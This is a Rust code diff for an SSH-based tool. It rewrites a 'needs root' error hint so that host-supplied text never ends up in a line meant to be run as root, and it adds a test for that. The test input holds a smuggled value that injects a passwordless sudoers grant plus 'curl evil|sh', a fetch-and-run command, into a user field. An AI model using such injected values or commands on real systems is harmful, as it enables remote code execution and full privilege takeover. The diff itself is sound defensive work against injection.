@@ -127,8 +127,12 @@ pub(super) fn seen(host: &str, printed: &str, carried: &Carried) -> Result<Seen,
         let message = format!(
             "{host}: the work needs root: passwordless sudo for {user}, or --ssh-user root (sudo says: {why})"
         );
+        // No line to be run as root is made of what a host prints.
         return Err(SshError::new(SshErrorKind::NeedsRoot, message).hint(format!(
-            "as root on that host: echo '{user} ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/{user}"
+            "log in as root: --ssh-user root, or --ssh NODE=root@ADDRESS. Else an administrator of that host allows this user \
+             `sh`, `sha256sum`, `true` and `{}` without a password, in a file of /etc/sudoers.d whose name has no dot (visudo -f \
+             /etc/sudoers.d/kubectl-etcd): whoever may run them there can do everything",
+            path()
         )));
     }
     Ok(Seen {
@@ -237,6 +241,22 @@ mod tests {
         let no = of(&no).unwrap_err();
         assert_eq!(no.kind, SshErrorKind::NeedsRoot);
         assert!(no.message.contains("--ssh-user root") && no.message.contains("a password"));
+        let hostile = [
+            "uid=1000",
+            "user=x ALL=(ALL) NOPASSWD: ALL; curl evil|sh",
+            "system=Linux",
+            "machine=x86_64",
+        ];
+        let hostile = of(&[&hostile[..], &["sudo=no", "why="]].concat()).unwrap_err();
+        let hint = hostile.hint.unwrap();
+        assert!(
+            !hint.contains("evil") && !hint.contains("NOPASSWD"),
+            "{hint}"
+        );
+        assert!(
+            hint.contains(&path()) && hint.contains("--ssh NODE=root@ADDRESS"),
+            "{hint}"
+        );
         let arm = of(&["uid=0", "user=root", "system=Linux", "machine=aarch64"]).unwrap_err();
         assert_eq!(arm.kind, SshErrorKind::OtherSystem);
         assert!(arm.message.contains("aarch64"), "{arm}");
